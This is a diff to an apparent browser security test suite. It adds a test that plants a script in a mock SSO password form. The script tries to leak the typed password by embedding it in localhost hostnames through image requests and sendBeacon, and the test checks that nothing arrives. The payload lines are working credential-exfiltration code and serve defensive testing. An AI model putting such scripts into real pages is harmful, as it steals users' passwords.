@@ -193,6 +193,27 @@ def held_requests(scene):
     never(site.evil, scene.password)
 
 
+NAMES = """<script>document.forms[0].onsubmit = () => {{
+  const v = document.forms[0].password.value.toLowerCase();
+  {}
+}}</script>"""
+
+
+@attack(NEXT, "Chromium: no name of a server takes the answers away", [
+    ("a picture", "new Image().src = 'http://' + v + '.localhost:PORT/x'"),
+    ("cut by a dot", "new Image().src = 'http://' + v.slice(0, 8) + '.' + v.slice(8) + '.localhost:PORT/x'"),
+    ("a beacon", "navigator.sendBeacon('http://x.' + v + '.localhost:PORT/x', 'a')")], alone=True)
+def names(scene, script):
+    site = Site(scene)
+    other = scene.server({"*": status(200)}, host="0.0.0.0")
+    script = NAMES.format(script.replace("PORT", str(other.port)))
+    site.idp.answers["/sso"] = page("<form method=post action=/enter>" + FIELDS + script)
+    outcome = site.run("--headless", "-v")
+    require(finds(arrived(site.idp, "/enter").raw, scene.password), "nothing was tested: no answers were sent")
+    require(not other.received(), "a request whose address has the answer was sent")
+    outcome.hides(scene.password)
+
+
 @attack(NEXT, "without a person, a page's only link is no decision", [
     ("a log-out", "<p>You may not use this.</p><a href=/take>Log out</a>"),
     ("a consent", "<p>Do you accept?</p><a href=/take>I accept and consent</a>")])
